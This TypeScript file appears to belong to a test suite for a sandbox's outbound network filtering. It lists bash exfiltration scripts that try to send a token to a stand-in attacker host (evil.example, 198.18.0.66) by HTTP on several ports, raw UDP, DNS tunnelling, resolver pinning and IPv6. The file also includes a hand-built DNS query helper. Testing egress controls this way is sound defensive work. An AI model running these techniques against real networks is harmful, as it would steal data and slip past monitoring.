/** One way to get a token out. Run as bash in a container; it succeeded when the token arrived at a fake-internet server. */
export interface Attack {
  readonly name: string;
  readonly script: (token: string) => string;
  /** Needs a network with IPv6. */
  readonly ipv6?: true;
}

// A DNS query for the name, sent straight to a server: ask NAME SERVER.
const ask = `ask() {
  local query='\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' label
  for label in \${1//./ }; do query+=$(printf '\\\\x%02x' "\${#label}")$label; done
  printf "$query\\x00\\x00\\x01\\x00\\x01" >"/dev/udp/$2/53"
}; `;

const attacker = '198.18.0.66';
const web = (url: string, more = ''): string => `curl -sS -m 4 --noproxy '*' ${more} '${url}'`;

export const attacks: readonly Attack[] = [
  { name: 'HTTP to a name that is not listed', script: (t) => web(`http://evil.example/${t}`) },
  { name: 'HTTP to a raw address', script: (t) => web(`http://${attacker}/${t}`) },
  { name: 'TCP 443 to a raw address', script: (t) => web(`http://${attacker}:443/${t}`) },
  { name: 'TCP 22 to a raw address', script: (t) => web(`http://${attacker}:22/${t}`) },
  { name: 'TCP 8080 to a raw address', script: (t) => web(`http://${attacker}:8080/${t}`) },
  {
    name: 'another port of an allowed site',
    script: (t) => `getent hosts allowed.example; ${web(`http://allowed.example:8080/${t}`)}`,
  },
  {
    name: 'an allowed name pinned to a foreign address',
    script: (t) => web(`http://allowed.example/${t}`, `--resolve 'allowed.example:80:${attacker}'`),
  },
  { name: 'UDP to a raw address', script: (t) => `echo ${t} >/dev/udp/${attacker}/4500` },
  {
    name: 'QUIC port of an allowed site',
    script: (t) => `getent hosts allowed.example; echo ${t} >/dev/udp/198.18.0.10/443`,
  },
  { name: 'DNS tunnel through the configured resolver', script: (t) => `getent hosts ${t}.tunnel.example` },
  { name: 'DNS tunnel below an allowed name', script: (t) => `getent hosts ${t}.allowed.example` },
  {
    name: 'DNS tunnel through the local resolver by hand',
    script: (t) =>
      `${ask}ask ${t}.tunnel.example "$(awk '/^nameserver/ { print $2; exit }' /etc/resolv.conf)"`,
  },
  { name: 'DNS straight to the attacker', script: (t) => `${ask}ask ${t}.tunnel.example ${attacker}` },
  { name: 'DNS straight to the upstream server', script: (t) => `${ask}ask ${t}.tunnel.example 198.18.0.53` },
  { name: 'DNS over TCP', script: (t) => web(`http://${attacker}:53/${t}`) },
  { name: 'DNS over TLS port', script: (t) => web(`http://${attacker}:853/${t}`) },
  { name: 'HTTP to a raw IPv6 address', script: (t) => web(`http://[2001:2::66]/${t}`, '-g'), ipv6: true },
  { name: 'UDP to a raw IPv6 address', script: (t) => `echo ${t} >/dev/udp/2001:2::66/4500`, ipv6: true },
  {
    name: 'DNS straight to an IPv6 server',
    script: (t) => `${ask}ask ${t}.tunnel.example 2001:2::66`,
    ipv6: true,
  },
];

let count = 0;
/** A token that no other attempt of this run used; a DNS label. */
export function newToken(): string {
  count += 1;
  return `t${process.pid}x${Date.now().toString(36)}x${count}`;
}
